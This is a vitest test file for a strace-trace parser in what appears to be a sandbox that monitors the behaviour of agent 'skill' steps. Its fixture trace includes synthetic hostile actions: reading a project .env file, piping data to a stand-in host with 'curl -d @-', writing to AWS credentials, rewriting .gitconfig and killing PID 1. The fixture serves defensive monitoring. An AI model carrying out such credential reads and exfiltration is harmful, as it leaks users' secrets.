import { describe, expect, it } from 'vitest';
import { parseTrace, unquote } from '#core/behaviour/trace';

/** A trace as strace writes it: the sandbox's setup, the orchestrator, a step's marker, then the step's processes. */
const TRACE = [
  '100   execve("/usr/bin/bwrap", ["/usr/bin/bwrap", "--as-pid-1", "/usr/bin/python3", "/run/skillpress/orchestrator.py"], 0x7ffc /* 70 vars */) = 0',
  '101   execve("/usr/bin/python3", ["/usr/bin/python3", "-I", "/run/skillpress/orchestrator.py", "/run/skillpress/plan-now.json"], 0x5645 /* 2 vars */) = 0',
  '101   openat(AT_FDCWD</>, "/home/dev/.aws/credentials", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 8</home/dev/.aws/credentials>',
  '101   openat(AT_FDCWD</>, "/.skillpress-step-2", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)',
  "101   clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7fc9) = 2 /* 200 in strace's PID NS */",
  '200   chdir("/home/dev/work/app/.claude/skills/skill") = 0',
  '200   execve("/usr/bin/bash", ["bash", "/run/skillpress/steps/2.sh"], 0x7f11 /* 20 vars */) = 0',
  '200   clone(child_stack=NULL, flags=SIGCHLD <unfinished ...>',
  '201   openat(AT_FDCWD</home/dev/work/app/.claude/skills/skill>, "../../../.env", O_RDONLY) = 3</home/dev/work/app/.env>',
  "200   <... clone resumed>) = 3 /* 201 in strace's PID NS */",
  '201   openat(AT_FDCWD</home/dev/work/app/.claude/skills/skill>, "notes/x", O_WRONLY|O_CREAT, 0644) = -1 EROFS (Read-only file system)',
  '201   execve("/usr/bin/curl", ["curl", "-d", "@-", "http://x.example/\\x22q\\x22"], 0x55f1 /* 5 vars */) = 0',
  '201   connect(5<socket:[96412]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("198.18.0.3")}, 16) = -1 EINPROGRESS (Operation now in progress)',
  '201   sendto(5<socket:[1]>, "ab\\x00\\n\\"c", 6, 0, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("198.18.0.53")}, 16) = 6',
  '201   renameat2(AT_FDCWD</home/dev>, ".gitconfig.lock", AT_FDCWD</home/dev>, ".gitconfig", RENAME_NOREPLACE) = 0',
  '201   kill(1, SIGKILL)                  = 0',
  '201   +++ exited with 0 +++',
];

describe('reading a trace', () => {
  const trace = parseTrace(TRACE);
  const of = (pid: number) => trace.events.filter((e) => e.pid === pid);

  it('puts the processes the orchestrator forks after a step’s marker, and their children, in that step', () => {
    expect(trace.processes.get(101)?.step).toBe(-1);
    expect(trace.processes.get(200)?.step).toBe(2);
    expect(trace.processes.get(201)).toMatchObject({ step: 2, parent: 200, argv: ['curl', '-d', '@-', 'http://x.example/"q"'] });
    expect(trace.events.some((e) => e.kind === 'open' && e.path.includes('skillpress-step'))).toBe(false);
  });

  it('resolves paths against the working folder and descriptors, and keeps refused calls with their error', () => {
    expect(of(201).filter((e) => e.kind === 'open')).toEqual([
      { pid: 201, ok: true, error: undefined, kind: 'open', path: '/home/dev/work/app/.env', flags: 'O_RDONLY', write: false },
      { pid: 201, ok: false, error: 'EROFS', kind: 'open', path: '/home/dev/work/app/.claude/skills/skill/notes/x', flags: 'O_WRONLY|O_CREAT', write: true },
    ]);
    expect(of(201).find((e) => e.kind === 'rename')).toMatchObject({ from: '/home/dev/.gitconfig.lock', path: '/home/dev/.gitconfig', ok: true });
  });

  it('reads connections, the bytes of datagrams and signals', () => {
    expect(of(201).find((e) => e.kind === 'connect')).toMatchObject({ ok: true, family: 'AF_INET', address: '198.18.0.3', port: 443 });
    const send = of(201).find((e) => e.kind === 'send');
    expect(send && 'bytes' in send && Buffer.from(send.bytes).toString('latin1')).toBe('ab\0\n"c');
    expect(of(201).find((e) => e.kind === 'signal')).toMatchObject({ target: 1, signal: 'SIGKILL' });
  });

  it('undoes strace’s escapes: hex, octal and C escapes', () => {
    expect([...unquote('"\\x41\\101\\t\\\\\\""')]).toEqual([65, 65, 9, 92, 34]);
  });
});
